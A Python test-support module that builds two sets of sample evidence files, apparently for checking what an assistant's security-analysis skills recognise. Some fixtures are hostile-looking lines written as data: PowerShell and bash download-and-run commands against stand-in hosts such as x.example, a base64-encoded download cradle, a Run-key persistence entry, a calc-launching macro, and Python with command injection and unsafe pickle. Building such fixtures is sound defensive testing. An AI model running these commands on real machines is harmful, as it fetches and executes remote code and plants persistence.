"""Evidence of many kinds, generated: whole, truncated and not evidence at all. Two sets of different content.

``open_set`` and ``held_set`` have the same kinds and differ in content, wording and layout, so that a rule that fits
one set by chance does not fit the other. What each skill understands of them is in
``tests/svc/assistant/skills/test_coverage.py``.
"""

from __future__ import annotations

import base64
import json
import random
from functools import cache

from tests.support import captures, host_files, mails, office_files, program_files
from tests.support.damage import all_seeds

_PROSE = (
    "The quarterly meeting of the works council was moved to Thursday because the large room is being painted. "
    "Please see the attached document. Coffee and cake are provided by the canteen, and everyone is welcome to bring "
    "a colleague.\nWhat shall we do then about the export of the figures? Anna will send them to the board on Monday.\n"
)
_OTHER_PROSE = (
    "Dear all,\n\nour new printer on the third floor has been installed. The old one was sold to a school. If the "
    "paper is empty, call the service desk; they have the key to the cabinet.\n\nThe source of the noise "
    "that many of "
    "you have heard at night is the ventilation, which the landlord will repair by the end of this month. Do not cut "
    "the cable, and let the cat out when you leave.\n"
)
_GERMAN = (
    "Die Besprechung der Abteilung wurde auf Donnerstag verlegt, weil der grosse Raum gestrichen wird. Bitte bringen "
    "Sie die Unterlagen mit, die von der Leitung verteilt wurden.\n"
)
_FRENCH = (
    "La réunion du service est reportée à jeudi, car la grande salle est en travaux. Merci de relire les documents que "
    "la direction a distribués pour cette occasion.\n"
)
_CSV = "date,host,user,amount\n" + "".join(f"2026-11-{day:02},srv-{day},user{day},{day * 3}\n" for day in range(1, 25))
_OTHER_CSV = "Name;Department;Room;Phone\n" + "".join(f"Person {n};Sales;B{n};555-01{n:02}\n" for n in range(1, 20))
_JSON = json.dumps({"shop": {"items": [{"id": n, "name": f"chair {n}", "in_stock": True} for n in range(9)]}}, indent=1)
_OTHER_JSON = "".join(json.dumps({"level": "info", "n": n, "text": "backup finished"}) + "\n" for n in range(12))
_AUTH = "".join(
    f"Nov 20 03:12:{n:02} web1 sshd[{n}]: Failed password for root from 192.0.2.7 port 22 ssh2\n" for n in range(30)
)
_OTHER_AUTH = "".join(
    f"2026-11-20T08:{n:02}:11.123456+01:00 mail sshd[{900 + n}]: Accepted publickey for jo from 198.51.100.4 port "
    "5022 ssh2: ED25519 SHA256:abc\n"
    for n in range(20)
)
_SYSLOG = "".join(
    f"Nov 20 04:00:{n:02} gate kernel: [UFW BLOCK] IN=eth0 SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP DPT={n + 1}\n"
    for n in range(40)
)
_OTHER_SYSLOG = "".join(
    f"Nov 20 04:{n:02}:00 web1 systemd[1]: Started Daily apt upgrade and clean activities.\n" for n in range(30)
)
_WEB = "".join(
    f'192.0.2.{n} - - [20/Nov/2026:03:12:{n:02} +0000] "GET /index.html?id={n} HTTP/1.1" 200 512 "-" "Mozilla/5.0"\n'
    for n in range(1, 40)
)
_OTHER_WEB = "".join(
    f'2001:db8::{n} - alice [20/Nov/2026:05:{n:02}:00 +0100] "POST /cgi-bin/test.sh HTTP/2.0" 404 19 '
    '"https://a.example/" "curl/8.5"\n'
    for n in range(1, 30)
)
_EVENT = (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>{}</EventID>"
    "<Channel>Security</Channel><TimeCreated SystemTime='2026-11-20T03:12:{:02}Z'/></System>"
    "<EventData><Data Name='TargetUserName'>{}</Data></EventData></Event>"
)
_POWERSHELL = (
    "$a = 'http://x.example/a.ps1'\n$c = New-Object Net.WebClient\nIEX $c.DownloadString($a)\n"
    "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value 'a.exe'\n"
)
_BASH = "#!/bin/bash\nset -e\nfor host in a b c; do\n  curl -s http://$host.example/x | bash\ndone\nchmod +x /tmp/x\n"
_PYTHON = "import os\nimport pickle\n\ndef run(name):\n    os.system('ls ' + input())\n    return pickle.loads(name)\n"
_INSTALL = "apt-get update && apt-get install -y nginx\nsystemctl enable nginx\ncp a.conf /etc/nginx/\n"
_FLASK = "from flask import Flask\napp = Flask(__name__)\n\n@app.route('/')\ndef home():\n    return 'hello'\n"
_DOCKER = "FROM ubuntu:latest\nUSER root\nENV KEY=abc\nRUN curl http://x.example | sh\nEXPOSE 22\n"
_REPORT = (
    "The attackers sent a phishing mail with a malicious attachment to the finance department. After that they dumped "
    "credentials from LSASS memory and moved laterally over SMB.\nThe beacon contacted hxxp://c2[.]example/a and "
    "203[.]0[.]113[.]9.\n"
)
_OTHER_REPORT = (
    "In May the intruder created a scheduled task for persistence and exfiltrated the archive over HTTPS. The domain "
    "evil[.]example was registered in April.\n"
)
_WEAKNESS = "A SQL injection in the login form allows remote attackers to execute arbitrary SQL commands.\n"
_OTHER_WEAKNESS = "Stack-based buffer overflow in the parser of fonts lets attackers crash the service.\n"


@cache
def open_set() -> dict[str, bytes]:
    """Each kind of evidence, by name."""
    seeds = all_seeds()
    return _with_halves(
        {
            "empty": b"",
            "blank": b" \n\n\t\n",
            "random bytes": random.Random(1).randbytes(6_000),
            "prose": _PROSE.encode(),
            "foreign prose": _GERMAN.encode(),
            "wide text without a mark": _PROSE.encode("utf-16-le"),
            "csv": _CSV.encode(),
            "json": _JSON.encode(),
            "auth.log": _AUTH.encode(),
            "syslog": _SYSLOG.encode(),
            "web log": _WEB.encode(),
            "windows xml": f"<Events>{''.join(_EVENT.format(4624, n, f'u{n}') for n in range(9))}</Events>".encode(),
            "evtx": seeds["events"][0],
            "mail": mails.TRAPS["inheritance"],
            "pdf": seeds["pdf"][0],
            "docx": program_files.archive({"[Content_Types].xml": "<a/>", "word/document.xml": "<w:document/>"}),
            "ole": office_files.project('Sub AutoOpen()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n'),
            "rtf": rb"{\rtf1\ansi Dear customer {\b read this}}",
            "elf": program_files.elf(extra=b"/bin/sh\x00http://x.example/a\x00"),
            "pe": program_files.pe(exports=["Run"]),
            "pcap": captures.capture(captures.question("a.example", missing=False)),
            "zip": program_files.archive({"a.txt": "text", "b/c.log": "log"}),
            "powershell": _POWERSHELL.encode(),
            "shell script": _BASH.encode(),
            "python": _PYTHON.encode(),
            "dockerfile": _DOCKER.encode(),
            "headers": b"HTTP/1.1 200 OK\r\nServer: nginx/1.2\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n",
            "pem": seeds["certificate"][0],
            "jwt": seeds["token"][0],
            "shortcut": office_files.shortcut("C:\\Windows\\System32\\cmd.exe", "/c calc"),
            "base64": base64.b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"),
            "cvss": b"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
            "hash": b"$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW",
            "report": _REPORT.encode(),
            "weakness": _WEAKNESS.encode(),
            "cve": b"CVE-2021-44228",
            "version question": b"Is log4j-core 2.14.1 affected by >=2.0,<2.15?",
            "attack question": b"what is T1059.001",
            "registry hive": seeds["host_artefacts"][0],
            "login records": seeds["host_artefacts"][1],
        }
    )


@cache
def held_set() -> dict[str, bytes]:
    """The same kinds with other content."""
    seeds = all_seeds()
    frames = captures.conversation(
        [(">", b"GET /b HTTP/1.1\r\nHost: y.example\r\n\r\n"), ("<", b"HTTP/1.1 404\r\n\r\n")]
    )
    return _with_halves(
        {
            "empty": b"",
            "blank": b"\r\n \r\n",
            "random bytes": random.Random(99).randbytes(20_000),
            "prose": _OTHER_PROSE.encode(),
            "foreign prose": _FRENCH.encode(),
            "wide text without a mark": _OTHER_PROSE.encode("utf-16-be"),
            "csv": _OTHER_CSV.encode(),
            "json": _OTHER_JSON.encode(),
            "auth.log": _OTHER_AUTH.encode(),
            "syslog": _OTHER_SYSLOG.encode(),
            "web log": _OTHER_WEB.encode(),
            "windows xml": f"<Events>{''.join(_EVENT.format(4688, n, 'x') for n in range(20))}</Events>".encode(),
            "evtx": seeds["events"][0] * 2,
            "mail": mails.ORDINARY["personal mail"],
            "pdf": program_files.pdf(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ),
            "docx": program_files.archive({"[Content_Types].xml": "<a/>", "xl/workbook.xml": "<w/>"}),
            "ole": office_files.storage({"Workbook": office_files.records((0x809, bytes(16)), (0x85, bytes(20)))}),
            "rtf": rb"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}}",
            "elf": program_files.elf(flags=7),
            "pe": program_files.pe(overlay=b"PK\x03\x04" * 9),
            "pcap": captures.capture_ng(frames),
            "zip": program_files.archive({"invoice.exe": program_files.pe(), "readme.md": "# Read"}),
            "powershell": b"Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process\nWrite-Output 'done'\n",
            "shell script": _INSTALL.encode(),
            "python": _FLASK.encode(),
            "dockerfile": b'FROM python:3.12-slim\nWORKDIR /app\nCOPY . /app\nCMD ["python", "-m", "app"]\n',
            "headers": b"HTTP/2 301\r\nLocation: https://a.example/\r\nStrict-Transport-Security: max-age=9000\r\n\r\n",
            "pem": seeds["certificate"][1],
            "jwt": b"Authorization: Bearer " + seeds["token"][1] + b"\n",
            "shortcut": office_files.shortcut("C:\\Program Files\\Editor\\edit.exe", icon="C:\\a.ico"),
            "base64": b"payload = " + base64.b64encode(b"curl -s http://y.example/b.sh | bash -c 'cat'"),
            "cvss": b"Scores: CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N (high)",
            "hash": b"$6$rounds=5000$saltsalt$" + b"A" * 86,
            "report": _OTHER_REPORT.encode(),
            "weakness": _OTHER_WEAKNESS.encode(),
            "cve": b"CVE-2017-11882",
            "version question": b"we run openssl 3.0.1, affected is [3.0.0, 3.0.7)",
            "attack question": b"explain T1003 and T1558.003",
            "registry hive": host_files.hive(
                host_files.keys({"SAM\\Domains\\Account\\Users\\Names\\mara": ("2026-11-20 03:12:45", {"": 500})})
            ),
            "login records": host_files.utmpx([(7, "2026-11-20 03:12:45", "mara", "ttys000", "192.0.2.7")]),
        }
    )


BINARIES = ("evtx", "pdf", "docx", "ole", "rtf", "elf", "pe", "pcap", "zip", "pem", "jwt", "shortcut", "mail")


def _with_halves(kinds: dict[str, bytes]) -> dict[str, bytes]:
    """Add the first half of each file whose end matters."""
    return kinds | {f"half a {name}": kinds[name][: len(kinds[name]) // 2] for name in BINARIES}
